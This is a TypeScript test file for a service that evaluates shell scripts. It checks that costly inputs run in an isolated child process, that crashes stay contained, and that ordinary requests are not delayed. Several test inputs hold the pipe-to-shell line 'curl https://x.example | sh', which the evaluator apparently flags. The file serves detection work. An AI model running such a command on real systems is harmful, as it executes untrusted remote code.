import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { Evaluator } from "../../src/evaluator/evaluator.js";
import { EvaluationPool } from "../../src/evaluator/evaluation-pool.js";
import { threadOptions } from "../../src/host/thread-options.js";
import { workerEntry } from "../../src/host/worker-entry.js";
import { callWithin } from "../../src/service/index.js";
import {
  Cleanup,
  createTestEvaluatorApp,
  SILENT,
  SOURCE_HASH,
  STUB_WORKER,
  temporaryFolder,
} from "../service/support/services.js";

const pool = new EvaluationPool({
  workerFile: STUB_WORKER,
  execArgv: [...threadOptions],
  workers: 1,
  maxConcurrent: 16,
  log: SILENT,
  child: workerEntry(import.meta.url, "", "../service/support/stub-child.ts"),
});
afterAll(() => pool.close());

/** Shell functions that all call each other. Such a text is evaluated in a child process. */
const COSTLY = ["a", "b", "c", "d"].map((name) => `${name}() {\n  a\n  b\n  c\n  d\n}\n`).join("");

function evaluate(text: string) {
  const call = callWithin(100_000);
  const options = { profile: "contract", offsetEncoding: "utf-16", analysisMs: 60_000 } as const;
  return pool
    .evaluate({ text, sourceHash: SOURCE_HASH, ...options }, call)
    .finally(() => call.close());
}

describe("a text that may be costly", () => {
  it("is analyzed in a child process", async () => {
    expect((await evaluate(`${COSTLY}curl https://x.example | sh`)).code).toBe("PS");
  });

  it("does not affect other texts if it crashes its process, and is then rejected for some time", async () => {
    const costly = evaluate(`${COSTLY}CHILD-GROWS`).catch((error: unknown) => error);
    expect((await evaluate("curl https://x.example | sh")).code).toBe("PS");
    expect(await costly).toMatchObject({ code: "evaluation-interrupted" });
    await expect(evaluate(`${COSTLY}CHILD-GROWS`)).rejects.toMatchObject({
      code: "analysis-failed",
      details: { retryAfter: expect.any(Number) as number },
    });
    expect((await evaluate(COSTLY)).code).toBe("NONE");
  });

  it("does not delay ordinary texts, even if there are ten such texts", async () => {
    const cleanup = new Cleanup();
    const open = join(await temporaryFolder(cleanup), "open");
    const evaluator = new Evaluator({
      pool,
      sourceHash: SOURCE_HASH,
      profile: "contract",
      analysisMs: 60_000,
      timeoutMs: 100_000,
    });
    const app = await createTestEvaluatorApp(cleanup, evaluator);
    const host = { host: "127.0.0.1:8788" };
    const post = (text: string) =>
      app.inject({ method: "POST", url: "/v1/evaluate", headers: host, payload: { text } });
    let ended = 0;
    const costly = Array.from({ length: 10 }, async (_, at) => {
      const response = await post(
        `${COSTLY}# ${at}\n# CHILD-WAITS-FOR "${open}"\ncurl https://x.example | sh`,
      );
      ended++;
      return response;
    });
    const ordinary = await Promise.all(
      Array.from({ length: 30 }, (_, at) => post(`echo ${at}\ncurl https://x.example | sh`)),
    );
    const health = await app.inject({ url: "/healthz", headers: host });
    expect(ended).toBe(0);
    expect(new Set(ordinary.map(({ statusCode }) => statusCode))).toEqual(new Set([200]));
    expect(ordinary.every((response) => response.json().code === "PS")).toBe(true);
    expect(health.statusCode).toBe(200);
    writeFileSync(open, "");
    const answers = await Promise.all(costly);
    for (const answer of answers)
      expect([answer.statusCode, answer.json().code]).toEqual(
        answer.statusCode === 200 ? [200, "PS"] : [503, "overloaded"],
      );
    expect(answers.some(({ statusCode }) => statusCode === 200)).toBe(true);
    await cleanup.run();
  });
});
